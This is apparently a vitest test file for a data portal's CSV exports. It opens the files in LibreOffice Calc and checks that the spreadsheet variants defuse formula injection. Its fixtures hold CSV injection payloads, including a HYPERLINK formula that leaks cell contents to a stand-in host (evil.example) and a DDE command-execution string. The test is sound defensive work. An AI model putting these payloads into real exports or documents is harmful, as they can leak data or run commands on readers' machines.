import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { buildExports } from '../../src/datasets/exports';
import { loadDataset } from '../../src/datasets/load';
import { loadRecommendations } from '../../src/monitoring/recommendations';
import { historyCsv, trackerCsv } from '../../src/monitoring/tracker';
import type { SitePaths } from '../../src/site/paths';
import { descriptor, SITE, tempSite, yaml } from './datasets/helpers';

/**
 * Opens the published CSVs in LibreOffice Calc, as a reader would, and looks at what it made of each
 * cell: the canonical files keep editors' formulas (so the test can see one), the spreadsheet variants
 * must have none. Runs where `soffice` is installed (Debian: libreoffice-calc-nogui); elsewhere it is
 * skipped with a note. What Calc does with each prefix is written up in docs/security.md.
 */
const soffice = (process.env.PATH ?? '').split(path.delimiter).map((dir) => path.join(dir, 'soffice')).find((file) => fs.existsSync(file));
const work = fs.mkdtempSync(path.join(os.tmpdir(), 'vitrina-libreoffice-'));
afterAll(() => fs.rmSync(work, { recursive: true, force: true }));

const HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', '=1+1', '+1+1', '-1+1', '@SUM(1+1)', '\t=1+1', '\r=1+1', '\n=1+1', "=cmd|' /C calc'!A0"];

function datasetFiles(): Record<string, Uint8Array> {
  const fields = [
    { name: 'id', type: 'integer', title: { en: 'Id' } },
    { name: 'text', title: { en: 'Text' } },
    { name: 'amount', type: 'number', title: { en: 'Amount' } },
  ];
  const csv = `id,text,amount\n${HOSTILE.map((text, i) => `${i + 1},"${text.replaceAll('"', '""')}",-${i}.5`).join('\n')}\n`;
  const { dataset, errors } = loadDataset(tempSite({ 'datapackage.yaml': yaml(descriptor({}, { schema: { fields } })), 'rows.csv': csv }), 'sample');
  expect(errors).toEqual([]);
  const exports = buildExports(dataset!, SITE);
  return { 'rows.csv': exports.byName.get('rows.csv')!.bytes, 'rows-spreadsheet.csv': exports.byName.get('rows-spreadsheet.csv')!.bytes };
}

function trackerFiles(): Record<string, string> {
  const root = path.join(work, 'site');
  const paths: SitePaths = { root, content: path.join(root, 'content'), data: path.join(root, 'data') };
  fs.mkdirSync(path.join(paths.content, 'recommendations'), { recursive: true });
  fs.writeFileSync(
    path.join(paths.content, 'recommendations', 'rec-f.yaml'),
    `title: { en: '=HYPERLINK("https://evil.example/?"&A1,"Click")', bg: '@SUM(1+1)', ru: '+1+1' }
text: { en: '-1+1' }
addressee: { id: town-hall, name: { en: '=1+1' } }
issued: 2023-09-01
project: town-project
history:
  - { date: 2023-09-01, status: proposed, note: { en: '=1+1', bg: '-1+1', ru: '@SUM(1+1)' } }
`,
  );
  const { recommendations, errors } = loadRecommendations(paths, { projects: new Set(['town-project']), services: () => undefined });
  expect(errors).toEqual([]);
  // YAML trims texts; tab, carriage return and line feed are set here to reach the writer.
  const withControls = recommendations.map((r) => ({ ...r, finding: { bg: '\t=1+1', en: '\r=1+1', ru: '\n=1+1' } }));
  const links = { file: (file: string) => `/files/${file}`, publication: (lang: string, slug: string) => `/${lang}/publications/${slug}/` };
  return {
    'recommendations.csv': trackerCsv(withControls),
    'recommendations-spreadsheet.csv': trackerCsv(withControls, 'spreadsheet'),
    'recommendations-history.csv': historyCsv(withControls, links),
    'recommendations-history-spreadsheet.csv': historyCsv(withControls, links, 'spreadsheet'),
  };
}

interface CalcCell {
  formula?: string;
  type?: string;
  text: string;
}

const unescape = (text: string) => text.replaceAll('&quot;', '"').replaceAll('&apos;', "'").replaceAll('&lt;', '<').replaceAll('&gt;', '>').replaceAll('&amp;', '&');

/** The cells of a flat ODF spreadsheet, row by row: formula, value type and the text Calc shows. */
function calcCells(fods: string): CalcCell[][] {
  return [...fods.matchAll(/<table:table-row\b[^>]*>([\s\S]*?)<\/table:table-row>/g)].map(([, row]) =>
    [...row!.matchAll(/<table:table-cell\b([^>]*?)(?:\/>|>([\s\S]*?)<\/table:table-cell>)/g)].flatMap(([, attributes, body]) => {
      const cell: CalcCell = {
        formula: /table:formula="([^"]*)"/.exec(attributes!)?.[1],
        type: /office:value-type="([^"]*)"/.exec(attributes!)?.[1],
        text: unescape(
          [...(body ?? '').matchAll(/<text:p>([\s\S]*?)<\/text:p>/g)]
            .map(([, paragraph]) => paragraph!.replace(/<text:tab\/>/g, '\t').replace(/<text:s\/>/g, ' ').replace(/<[^>]+>/g, ''))
            .join('\n'),
        ),
      };
      // Calc writes a run of equal cells (empty ones, mostly) once, with a repeat count.
      const repeated = Number(/table:number-columns-repeated="(\d+)"/.exec(attributes!)?.[1] ?? 1);
      return Array.from({ length: Math.min(repeated, 64) }, () => cell);
    }),
  );
}

describe('the spreadsheet variants opened in LibreOffice Calc', () => {
  it('run no formula, show editors’ text after an apostrophe, and keep numbers as numbers', (ctx) => {
    ctx.skip(!soffice, 'LibreOffice (soffice) is not installed; on Debian: apt-get install libreoffice-calc-nogui');
    const files: Record<string, string | Uint8Array> = { ...datasetFiles(), ...trackerFiles() };
    const input = path.join(work, 'csv');
    const output = path.join(work, 'fods');
    fs.mkdirSync(input, { recursive: true });
    for (const [name, bytes] of Object.entries(files)) fs.writeFileSync(path.join(input, name), bytes);
    // Calc's own CSV import with the file's encoding (UTF-8) and its defaults otherwise, formula
    // evaluation included; a profile of its own, so that no settings are read or left behind.
    execFileSync(
      soffice!,
      [`-env:UserInstallation=file://${path.join(work, 'profile')}`, '--headless', '--infilter=Text - txt - csv (StarCalc):44,34,76,1', '--convert-to', 'fods', '--outdir', output, ...Object.keys(files).map((name) => path.join(input, name))],
      { stdio: 'pipe', timeout: 120_000 },
    );
    const sheet = (name: string) => calcCells(fs.readFileSync(path.join(output, name.replace(/\.csv$/, '.fods')), 'utf8'));
    const formulas = (name: string) => sheet(name).flat().filter((cell) => cell.formula).map((cell) => cell.text);

    // The canonical files are data, not for spreadsheets: Calc runs the `=` cells, which shows this test sees formulas.
    expect(formulas('rows.csv').length).toBeGreaterThan(0);
    expect(formulas('recommendations.csv')).toContain('Click');
    expect(formulas('recommendations-history.csv')).toEqual(['2']);

    for (const name of ['rows-spreadsheet.csv', 'recommendations-spreadsheet.csv', 'recommendations-history-spreadsheet.csv']) expect(formulas(name), name).toEqual([]);

    const rows = sheet('rows-spreadsheet.csv');
    expect(rows[0]!.map((cell) => cell.text)).toEqual(['id', 'text', 'amount']);
    // Calc keeps the apostrophe as part of the text, and shows a carriage return inside a cell as a line break.
    expect(rows.slice(1).map((row) => row[1]!.text)).toEqual(HOSTILE.map((text) => `'${text.replace('\r', '\n')}`));
    expect(rows.slice(1).map((row) => [row[2]!.type, row[2]!.text])).toEqual(HOSTILE.map((_, i) => ['float', `-${i}.5`]));

    const tracker = sheet('recommendations-spreadsheet.csv');
    const header = tracker[0]!.map((cell) => cell.text);
    const shown = (column: string) => tracker[1]![header.indexOf(column)]!.text;
    expect(shown('title_en')).toBe(`'=HYPERLINK("https://evil.example/?"&A1,"Click")`);
    expect([shown('title_bg'), shown('title_ru'), shown('text_en'), shown('addressee_en')]).toEqual(["'@SUM(1+1)", "'+1+1", "'-1+1", "'=1+1"]);
    expect([shown('finding_bg'), shown('finding_en'), shown('finding_ru')]).toEqual(["'\t=1+1", "'\n=1+1", "'\n=1+1"]);
    expect(sheet('recommendations-history-spreadsheet.csv')[1]!.slice(3, 6).map((cell) => cell.text)).toEqual(["'-1+1", "'=1+1", "'@SUM(1+1)"]);
  }, 180_000);
});
